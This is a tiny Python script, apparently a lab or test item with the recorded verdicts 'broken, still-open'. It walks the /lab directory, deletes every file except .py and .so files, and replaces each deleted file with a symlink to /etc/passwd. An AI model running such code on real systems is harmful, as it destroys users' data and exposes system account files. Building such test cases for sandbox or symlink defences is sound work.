"""Every file becomes a link to the machine's own accounts.

verdicts: broken, still-open
"""

import os

for folder, _, names in os.walk("/lab"):
    for name in names:
        if not name.endswith((".py", ".so")):
            os.unlink(f"{folder}/{name}")
            os.symlink("/etc/passwd", f"{folder}/{name}")
